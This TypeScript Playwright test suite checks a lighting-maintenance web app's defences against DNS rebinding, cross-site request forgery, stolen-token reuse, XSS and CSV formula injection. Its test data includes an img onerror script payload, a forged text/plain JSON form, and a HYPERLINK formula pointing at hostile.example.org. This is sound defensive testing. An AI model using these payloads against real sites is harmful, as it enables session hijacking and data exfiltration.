// The page on a network and what other pages in the same browser try, in Chromium: a name that is made to point here, a
// foreign page and one on another port of this machine that send orders, scripts and formulas in the words of people, and a
// stolen access token.

import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { type Browser, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it, vi } from 'vitest';
import { Desk } from '../../host/accounts/desk';
import { accountsFileOf, openAccounts } from '../../host/accounts/store';
import type { TokenRequest } from '../../host/api/tokens';
import { systemClock } from '../../host/clock';
import { openKeys, secretFileOf } from '../../host/keys';
import { openLogbook } from '../../host/logbook/engines/open';
import { Rehearsal } from '../../host/rehearse/rehearsal';
import { type Served, type ServeOptions, serve } from '../../host/serve/serve';
import { CHROMIUM, expectSound, FLAGS, visit, WIDTHS } from './support/browser';
import { buildLodge } from './support/lodge';

const PASSWORD = 'five llamas hum at dusk';
const EVIL = 'hostile.example.org';
const SCRIPT = '<img src=x onerror=alert(1)>';

/** Where the luminaires are, as somebody with bad intentions would enter it. */
const PLACES = [SCRIPT, '=HYPERLINK("https://hostile.example.org/"&A1)', '＝1+1', '@SUM(A1:A9)'];
/** Long enough for the first function tests. */
const DAYS = 35;

let folder: string;
let db: string;
let lodge: ServeOptions;
let host: Served;
let browser: Browser;
let foreign: Server;
let said = '';
let port: string;

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'nightproof-hostile-'));
  const hostile = (text: string) =>
    PLACES.reduce((so, place, i) => so.replace(`Corridor ${i + 1},`, `${JSON.stringify(place)},`), text);
  const { file, site } = buildLodge(folder, 1, 60, 600, hostile);
  db = join(folder, 'log.db');
  const keys = openKeys(secretFileOf(db));
  const logbook = await openLogbook(db);
  const rehearsal = await Rehearsal.start({ site, seed: 5, days: DAYS, keys, logbook });
  await rehearsal.runDays(DAYS);
  await logbook.close();
  const told = vi.spyOn(process.stdout, 'write').mockImplementation((text) => {
    said += String(text);
    return true;
  });
  const places = {
    ...{ db, keys },
    port: 0,
    brokerPort: 0,
    host: '0.0.0.0',
    names: ['lights.local'],
  };
  lodge = { site, siteFile: file, ...places };
  host = await serve(lodge);
  told.mockRestore();
  ({ port } = new URL(host.url));
  foreign = createServer((_, answer) =>
    answer.setHeader('content-type', 'text/html').end('<!doctype html><p>here'),
  );
  await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
  // What a resolver under somebody else's control would do; the certificate itself is judged in host/tls.
  const names = `--host-resolver-rules=MAP ${EVIL} 127.0.0.1,MAP lights.local 127.0.0.1`;
  const args = [...FLAGS, names, '--ignore-certificate-errors'];
  browser = await chromium.launch({ executablePath: CHROMIUM, args, timeout: 120_000 });
});
afterAll(async () => {
  await browser?.close();
  await host?.stop();
  foreign?.close();
  rmSync(folder, { recursive: true, force: true });
});

const entries = async () => (await host.logbook.page({ limit: 100 })).length;

it('makes the first administrator with the printed code, and says how to trust the page', async () => {
  const guest = await visit(browser);
  const { page } = guest;
  await page.goto(`${host.url}/trust`);
  for (const colorScheme of ['light', 'dark'] as const) {
    await page.emulateMedia({ colorScheme });
    await expectSound(guest, `trust, ${colorScheme}`, WIDTHS);
  }
  await page.goto(host.url);
  await page.getByRole('link', { name: 'How to trust this page' }).click();
  await page.waitForURL(`${host.url}/trust`);
  await page.goto(host.url);
  const form = page.getByRole('form', { name: 'Make your account (the first one)' });
  await form.getByLabel('Account').fill('ada');
  await form.getByLabel('Full name, as in the log book').fill(SCRIPT);
  await form.getByLabel('One-time code').fill(/Code: (\S+)/.exec(said)?.[1] ?? '');
  await form.getByLabel('New password').fill(PASSWORD);
  await expectSound(guest, 'first administrator', WIDTHS);
  await page.keyboard.press('Enter');
  await page.getByRole('link', { name: SCRIPT }).waitFor();
  const cookies = await page.context().cookies();
  expect(cookies.every(({ secure, httpOnly }) => secure && httpOnly)).toBe(true);
  // Words of people stay words, wherever they stand.
  let isAlarmed = false;
  page.on('dialog', (dialog) => {
    isAlarmed = true;
    return dialog.dismiss();
  });
  for (const [hash, words] of [
    ['#/luminaire/W1-01', SCRIPT],
    ['#/log?kind=account', 'made the account ada for'],
    ['#/accounts', SCRIPT],
  ]) {
    await page.goto(`${host.url}/${hash}`);
    await page.getByText(words).first().waitFor();
    expect(await page.locator('img[src="x"]').count(), hash).toBe(0);
  }
  expect(isAlarmed).toBe(false);
  await page.context().storageState({ path: join(folder, 'state.json') });
});

/** A page with the cookies of whoever has signed in. */
async function signedIn(): Promise<Page> {
  const context = await browser.newContext({ storageState: join(folder, 'state.json') });
  return context.newPage();
}

it('gives a name that is made to point here nothing', async () => {
  const page = await signedIn();
  const answer = await page.goto(`https://${EVIL}:${port}/api/status`);
  expect(answer?.status()).toBe(403);
  expect(await page.textContent('body')).toContain(
    'This page is not served under that name; open it at lights.local',
  );
  await page.context().close();
});

it.each([
  ['a foreign page', () => `http://${EVIL}:${(foreign.address() as AddressInfo).port}/`],
  ['a page on another port', () => `http://127.0.0.1:${(foreign.address() as AddressInfo).port}/`],
])('takes no order that %s sends with the cookies of who is signed in', async (_, address) => {
  const before = await entries();
  const page = await signedIn();
  await page.goto(address());
  const target = `${host.url}/api/circuits/wing-1/orders`;
  const outcomes = await page.evaluate(async (url) => {
    const body = JSON.stringify({ do: 'attend', hours: 2, who: 'Somebody Else' });
    const tries: RequestInit[] = [
      { headers: { 'content-type': 'application/json' } },
      { headers: { 'content-type': 'text/plain' } },
      { headers: { 'content-type': 'text/plain' }, mode: 'no-cors' },
    ];
    const sent = tries.map((init) =>
      fetch(url, { method: 'POST', body, credentials: 'include', ...init }).then(
        ({ type, status }) => `${type} ${status}`,
        () => 'refused',
      ),
    );
    return Promise.all(sent);
  }, target);
  // What cannot be read tells nothing; the log book does.
  expect(outcomes).toEqual(['refused', 'refused', 'refused']);
  await page.evaluate((url) => {
    const form = Object.assign(document.createElement('form'), {
      method: 'POST',
      action: url,
      enctype: 'text/plain',
    });
    const field = Object.assign(document.createElement('input'), {
      name: '{"do":"attend","hours":2,"who":"',
      value: 'Somebody Else"}',
    });
    form.append(field);
    document.body.append(form);
    form.submit();
  }, target);
  await page.getByText(/Sign in first\.|An order must/).waitFor();
  expect(await entries()).toBe(before);
  await page.context().close();
});

it('gives a table in which no cell is a formula, whatever people have entered', async () => {
  const page = await signedIn();
  await page.goto(`${host.url}/#/reports`);
  const form = page.getByRole('form', { name: 'Report' });
  await form.getByLabel('First day').fill('2026-01-01');
  await form.getByLabel('Last day').fill('2026-03-01');
  const download = page.waitForEvent('download');
  await form.getByRole('button', { name: 'Make the table' }).click();
  const text = readFileSync(await (await download).path(), 'utf8');
  const [head, ...rows]: string[][] = parse(text, { bom: true });
  const places = new Set(rows.map((row) => row[head.indexOf('place')]));
  expect([...places].sort()).toEqual([SCRIPT, ...PLACES.slice(1).map((place) => `'${place}`)].sort());
  // OWASP, CSV Injection (page of 2025): these begin a formula, the wide ones too.
  expect(rows.flat().filter((cell) => /^\s*[=+\-@\t\r\n＝＋－＠]/u.test(cell))).toEqual([]);
  await page.context().close();
});

it('gives a foreign page nothing for a stolen access token, and nobody once it is withdrawn', async () => {
  const store = openAccounts(accountsFileOf(db));
  const desk = new Desk({ store, clock: systemClock, enter: async () => {} });
  const change = (wish: TokenRequest) => desk.tokens.change(wish, { id: '', name: 'Ada Vail' });
  const wish = { do: 'make', name: 'Porter', scope: 'calendar', days: 1 } as const;
  const { secret = '' } = await change(wish);
  const page = await signedIn();
  const atHome = await page.goto(`${host.url}/api/session`);
  expect(atHome?.status()).toBe(200);
  const address = `${host.url}/calendar.ics?token=${secret}`;
  const here = (url: string) => page.evaluate(async (at) => (await fetch(at)).status, url);
  expect(await here(address)).toBe(200);
  await page.goto(`http://${EVIL}:${(foreign.address() as AddressInfo).port}/`);
  const read = await page.evaluate(
    async ([url, token]) => {
      const tries: [string, RequestInit][] = [
        [url, {}],
        [url, { credentials: 'include' }],
        [url.split('?')[0], { headers: { authorization: `Bearer ${token}` } }],
        [url, { mode: 'no-cors' }],
      ];
      return Promise.all(
        tries.map(([at, init]) =>
          fetch(at, init).then(
            async (answer) => `${answer.type} ${await answer.text()}`,
            () => 'refused',
          ),
        ),
      );
    },
    [address, secret],
  );
  expect(read).toEqual(['refused', 'refused', 'refused', 'refused']);
  const [{ id }] = store.tokens();
  await change({ do: 'withdraw', token: id });
  store.close();
  await page.goto(`${host.url}/api/session`);
  expect(await here(address)).toBe(401);
  await page.context().close();
});

it('says in an open page that its account is gone, and how to make another', async () => {
  const page = await signedIn();
  await page.goto(host.url);
  await page.getByRole('link', { name: SCRIPT }).waitFor();
  await host.stop();
  // As the demonstration after another start: nothing of before is there.
  const other = join(folder, 'other.db');
  host = await serve({
    ...lodge,
    db: other,
    keys: openKeys(secretFileOf(other)),
    port: Number(port),
    quiet: true,
  });
  await page.getByText('No account here any more: make yours with the code').waitFor({ timeout: 60_000 });
  await page.getByRole('form', { name: 'Make your account (the first one)' }).waitFor();
  expect(await page.getByText('Your session has ended').count()).toBe(0);
  await page.context().close();
});
